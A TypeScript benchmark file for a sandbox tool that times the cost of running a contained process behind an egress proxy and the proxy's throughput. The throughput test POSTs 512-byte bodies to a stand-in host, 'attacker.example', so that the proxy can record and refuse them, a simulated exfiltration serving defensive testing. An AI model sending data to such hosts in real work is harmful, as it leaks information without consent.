import { once } from 'node:events';
import { closeSync, constants, mkdirSync, mkdtempSync, openSync, rmSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { openAttemptNetwork } from '../../src/network/attempt-network.js';
import { startEgressProxy } from '../../src/network/egress-proxy.js';
import { startContained } from '../../src/sandbox/contained-process.js';
import { namespaceListenersAvailable } from '../../src/sandbox/network-namespace.js';
import { detectSandbox } from '../../src/sandbox/sandbox-availability.js';
import type { BenchConfig } from '../config.js';
import { median, timeAsync } from '../measure.js';
import { atMost, type BenchContext, type BenchRow, formatMs } from '../table.js';

/**
 * Row 11: what `network: proxy` costs (SPEC §14). 11a: one contained `/bin/true` with the attempt's
 * egress proxy (its own network namespace, the command held until Witness has opened the proxy's
 * listeners in it) against the same under `network: none` (the namespace alone), interleaved; the
 * overhead is the difference of the medians (target p50 ≤ 30 ms). 11b: requests per second a keep-alive
 * client gets through the proxy (each recorded, then refused), the proxy's own cost per request.
 */
export async function benchNetwork(_config: BenchConfig, context: BenchContext): Promise<BenchRow[]> {
  const availability = await detectSandbox();
  const problem = availability.available ? namespaceListenersAvailable() : availability.reason;
  const rows: BenchRow[] = [];
  if (problem !== undefined || !availability.available) {
    rows.push({
      id: '11a',
      what: 'network: proxy, per-attempt overhead over network: none',
      witness: '—',
      baseline: '—',
      ratio: null,
      target: 'p50 ≤ 30 ms',
      verdict: 'ERROR',
      note: problem ?? 'no sandbox',
    });
  } else {
    mkdirSync(context.base, { recursive: true });
    const dir = mkdtempSync(join(context.base, 'network-bench-'));
    try {
      mkdirSync(join(dir, 'ws'));
      mkdirSync(join(dir, 'home'));
      const workspace = { path: join(dir, 'ws'), fd: openSync(join(dir, 'ws'), constants.O_RDONLY) };
      const home = { path: join(dir, 'home'), fd: openSync(join(dir, 'home'), constants.O_RDONLY) };
      const rounds = 40;
      const none: number[] = [];
      const proxied: number[] = [];
      const once_ = async (mode: 'none' | 'proxy') => {
        const network =
          mode === 'proxy'
            ? openAttemptNetwork({ settings: { mode, allow: [], intercept: false } })
            : undefined;
        const child = startContained({
          containment: { mode: 'bwrap', bwrapPath: availability.bwrapPath },
          command: '/bin/true',
          args: [],
          workspace,
          home,
          env: { PATH: '/usr/bin:/bin', ...(network?.egress?.environment() ?? {}) },
          hiddenDirectories: [dir],
          network: mode,
          namespaceListeners: network?.egress?.listeners() ?? [],
        });
        child.stdin.end();
        child.stdout.resume();
        child.stderr.resume();
        await child.ended;
        network?.evidence();
        await network?.close();
      };
      context.log(`row 11: ${rounds} interleaved contained spawns under network: none and network: proxy`);
      for (let i = 0; i < rounds; i++) {
        none.push(await timeAsync(() => once_('none')));
        proxied.push(await timeAsync(() => once_('proxy')));
      }
      closeSync(workspace.fd);
      closeSync(home.fd);
      const overhead = median(proxied) - median(none);
      rows.push({
        id: '11a',
        what: 'network: proxy, per-attempt overhead over network: none (contained /bin/true, p50 difference)',
        witness: formatMs(median(proxied)),
        baseline: `network: none ${formatMs(median(none))}`,
        ratio: median(proxied) / median(none),
        target: 'overhead p50 ≤ 30 ms',
        verdict: atMost(overhead, 30),
        note: `overhead ${formatMs(overhead)}`,
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  const count = 2_000;
  const proxy = startEgressProxy({ maxRequests: count });
  const listener = createServer((socket) => proxy.accept(socket));
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const port = (listener.address() as AddressInfo).port;
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  context.log(`row 11: ${count} requests through the egress proxy`);
  const body = 'x'.repeat(512);
  const ms = await timeAsync(async () => {
    let next = 0;
    const lane = async () => {
      while (next < count) {
        next++;
        await new Promise<void>((resolve, reject) => {
          const req = request({
            host: '127.0.0.1',
            port,
            method: 'POST',
            path: 'http://attacker.example/c',
            agent,
          });
          req.on('response', (res) => {
            res.resume();
            res.on('end', () => resolve());
          });
          req.on('error', reject);
          req.end(body);
        });
      }
    };
    await Promise.all(Array.from({ length: 8 }, lane));
  });
  const recorded = proxy.evidence().requests.length;
  agent.destroy();
  await proxy.close();
  listener.close();
  rows.push({
    id: '11b',
    what: 'egress proxy: POST requests (512-byte bodies) recorded and refused, 8 keep-alive clients',
    witness: `${(count / (ms / 1000)).toFixed(0)} requests/s`,
    baseline: '—',
    ratio: null,
    target: '—',
    verdict: recorded === count ? 'info' : 'ERROR',
    note: `${recorded}/${count} recorded`,
  });
  return rows;
}
